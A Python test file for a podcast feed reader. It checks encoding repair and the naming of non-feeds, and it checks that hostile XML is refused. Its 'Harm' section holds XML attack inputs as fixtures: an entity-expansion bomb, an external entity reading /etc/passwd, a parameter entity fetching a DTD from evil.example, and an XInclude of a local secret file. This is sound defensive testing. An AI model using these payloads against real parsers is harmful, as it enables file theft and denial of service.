"""Feeds that are no XML, or are made to do harm: the first are mended, the second refused."""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest

from podcast.reading.lenient import LARGEST, MOST_ELEMENTS, read_leniently
from tests.podcast.reading.a_foreign_feed import (
    ADDRESS,
    CHANNEL,
    a_feed,
    an_item,
    bare_item,
    read,
    read_or_refuse,
    told,
)
from workspace.errors import UserError


def refusal(feed: str | bytes) -> str:
    """The code of the error that a feed is refused with; it has all four parts."""
    with pytest.raises(UserError) as refused:
        read(feed)
    (finding,) = refused.value.findings
    assert all((finding.problem, finding.why, finding.fix, finding.where.file == ADDRESS))
    return finding.code


# Encodings


def titled(title: str, encoding: str) -> str:
    declared = f'<?xml version="1.0" encoding="{encoding}"?>' if encoding else ""
    return a_feed(f"<title>{title}</title>", start=declared)


@pytest.mark.parametrize(
    ("declared", "written"),
    [
        ("utf-8", "utf-8"),
        ("", "utf-8"),
        ("utf-8", "utf-8-sig"),
        ("utf-16", "utf-8"),
        ("UTF-8", "utf-16"),
        ("utf-16", "utf-16-le"),
        ("utf-16", "utf-16-be"),
        ("utf-32", "utf-32"),
        ("iso-8859-1", "iso-8859-1"),
        ("iso-8859-1", "utf-8"),
        ("ascii", "utf-8"),
        ("windows-1252", "cp1252"),
        ("utf-8", "iso-8859-1"),
        ("no-such-thing", "utf-8"),
        ("punycode", "utf-8"),
    ],
)
def test_the_bytes_decide_how_a_feed_is_written(declared: str, written: str) -> None:
    assert read(titled("Schöne Füße", declared).encode(written)).title == "Schöne Füße"


def test_east_asian_encodings_are_read() -> None:
    assert read(titled("膝と腰", "shift_jis").encode("shift_jis")).title == "膝と腰"
    assert read(titled("联通", "gb2312").encode("gb2312")).title == "联通"


def test_a_wrong_encoding_is_told() -> None:
    assert any("Western European" in line for line in told(read(titled("Füße – “x”", "utf-8").encode("cp1252"))))
    assert any("it is in UTF-8" in line for line in told(read(titled("Füße", "iso-8859-1").encode())))


@pytest.mark.parametrize(
    "before",
    ["\n\n  ", "\ufeff", "\ufeff\n", "<!-- made by hand -->\n", "Warning: cannot connect in line 4\n", "\x00"],
)
def test_what_stands_before_the_declaration_does_not_matter(before: str) -> None:
    assert read(before + a_feed()).title == "Knees and Hips"


def test_lines_are_counted_as_in_the_feed() -> None:
    show = read("\n\n<?xml version='1.0'?>\n<!-- x\n -->\n" + a_feed(CHANNEL, "\n<item/>", start="").lstrip())

    assert show.items[0].line == 7


# Signs


def test_entities_of_html_are_read_as_meant_and_bare_signs_as_they_stand() -> None:
    item = bare_item(
        "<title>Caf&eacute;&nbsp;&mdash; R&D &gtgt; Q&amp;A &unknown; a&b=c; &lt;b&gt;</title>"
        "<link>https://a.example/?a=1&b=2&copy=3</link>"
    )

    assert item.title == "Café — R&D &gtgt; Q&A &unknown; a&b=c; <b>"
    assert item.link == "https://a.example/?a=1&b=2&copy=3"


def test_characters_that_xml_forbids_are_left_out() -> None:
    item = bare_item("<title>A\x0bB\x00C&#11;D&#x1F;E&#xFFFF;F&#55357;&#56832;G&#xd83d;&#xde00;H&#9999999999;</title>")

    assert item.title == "ABCDEF😀G😀H"


def test_what_stands_in_cdata_is_left_alone() -> None:
    item = bare_item("<title>A&nbsp;B</title><description><![CDATA[a &nbsp; & <b>b</b> &#11;]]></description>")

    assert item.description_html == "a &nbsp; & <b>b</b> &#11;"


def test_broken_tags_cost_only_themselves_and_are_told() -> None:
    show = read(a_feed(CHANNEL, "<item><title>A<b></title><guid>a</guid></item>", "<item></b><title>B</title></item>"))

    assert [item.title[:1] for item in show.items] == ["A", "B"]
    assert any("not well-formed from line" in line for line in told(show))


def test_a_sign_in_the_text_that_looks_like_a_tag_is_told() -> None:
    show = read(a_feed(CHANNEL, "<item><title>1 < 2 & 3</title><guid>a</guid></item>", an_item()))

    assert [item.id for item in show.items] == ["a", "ep-1"]


# No feeds


def test_a_feed_that_breaks_off_is_refused() -> None:
    whole = a_feed(CHANNEL, an_item(), an_item())

    assert refusal(whole[:-60]) == "foreign-cut-off"
    assert refusal(whole[: len(whole) // 2]) == "foreign-cut-off"


@pytest.mark.parametrize(
    ("feed", "code"),
    [
        ("", "foreign-empty"),
        (" \n\ufeff ", "foreign-empty"),
        ("<!DOCTYPE html><html><body>Not found</body></html>", "foreign-page"),
        ("<!doctype HTML PUBLIC '-//W3C//DTD HTML 4.01//EN'>\n<p>x", "foreign-page"),
        ("<html><head/><body><p>x</body></html>", "foreign-page"),
        ('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', "foreign-page"),
        ('{"version": "https://jsonfeed.org/version/1"}', "foreign-other"),
        ("Not found", "foreign-other"),
        ("\x1f\x8b\x08\x00\x00", "foreign-other"),
        ('<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>', "foreign-other"),
        ('<opml version="2.0"><body/></opml>', "foreign-other"),
        ("<rss version='2.0'></rss>", "foreign-no-show"),
    ],
)
def test_what_is_no_feed_is_named(feed: str, code: str) -> None:
    assert refusal(feed) == code


def test_atom_is_named_as_such() -> None:
    with pytest.raises(UserError, match="not a podcast's feed") as refused:
        read('<feed xmlns="http://www.w3.org/2005/Atom"/>')

    assert "an Atom feed" in refused.value.findings[0].why


# Harm

BOMB = '<!DOCTYPE rss [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    "doctype",
    [
        BOMB,
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        '<!doctype rss [ <!entity a "x"> ]>',
        f"<!-- x --><?pi y?>{BOMB}",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-8-sig"])
def test_a_feed_that_defines_entities_is_refused(doctype: str, encoding: str) -> None:
    feed = a_feed("<title>&a;&x;&b;</title>", start=f"<?xml version='1.0'?>{doctype}")

    assert refusal(feed.encode(encoding)) == "foreign-entities"


def test_entities_hidden_behind_the_end_of_a_document_type_define_nothing() -> None:
    feed = a_feed("<title>&a;</title>", start='<!DOCTYPE rss [ <!-- ]> --> <!ENTITY a "boom"> ]>')

    show, code = read_or_refuse(feed)
    assert "boom" not in repr(show)
    assert not code or code.startswith("foreign-")


def test_a_document_type_that_defines_nothing_is_not_looked_up() -> None:
    netscape = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">'

    assert read(a_feed(start=f'<?xml version="1.0"?>\n{netscape}\n')).title == "Knees and Hips"


def test_no_file_is_read_for_an_entity_or_an_inclusion(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the password")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{secret.as_uri()}"/>'
    show = read(a_feed(f"<title>x{include}</title>", an_item(include)))

    assert "password" not in repr(show)


def test_a_feed_with_tags_within_tags_within_tags_is_refused() -> None:
    deep = "<a>" * 5000 + "</a>" * 5000

    assert refusal(a_feed(deep)) == "foreign-broken"


def test_a_feed_beyond_all_measure_is_refused_before_it_is_parsed() -> None:
    assert refusal(b" " * (LARGEST + 1)) == "foreign-large"
    assert refusal("<rss><channel>" + "<a/>" * (MOST_ELEMENTS + 1) + "</channel></rss>") == "foreign-large"


def test_a_text_that_no_notes_have_is_refused() -> None:
    assert refusal(a_feed(f"<title>{'x' * 10_100_000}</title>")) == "foreign-broken"


def test_a_large_feed_of_a_long_running_show_is_read() -> None:
    notes = f"<description><![CDATA[<p>{'Knees hurt. ' * 400}</p>]]></description>"
    items = [an_item(notes).replace("ep-1", f"ep-{n}").replace("1.mp3", f"{n}.mp3") for n in range(2500)]
    feed = a_feed(CHANNEL, *items).encode()

    assert len(feed) > 12_000_000
    assert len(read(feed).items) == 2500


@pytest.mark.parametrize(
    "junk",
    [
        "<",
        "<!",
        "<![CDATA[",
        "<!--",
        "&",
        "&#",
        "<a ",
        "<a b='",
        "]]>",
        "<?",
        "<!DOCTYPE ",
        "</",
        "{",
        "<a:",
        "&amp;amp;",
    ],
)
def test_a_sign_repeated_without_end_is_read_or_refused_in_one_go(junk: str) -> None:
    """Were the time to grow with the square, none of these would come back today."""
    many = junk * 300_000
    for feed in (many, a_feed(f"<title>{many}</title>"), a_feed() + many):
        show, code = read_or_refuse(feed)
        assert show or code.startswith("foreign-")


def test_encodings_that_cost_time_are_not_used() -> None:
    feed = codecs.BOM_UTF8 + titled("x" * 100, "idna").encode()

    assert read_leniently(feed, ADDRESS).root.name == "rss"
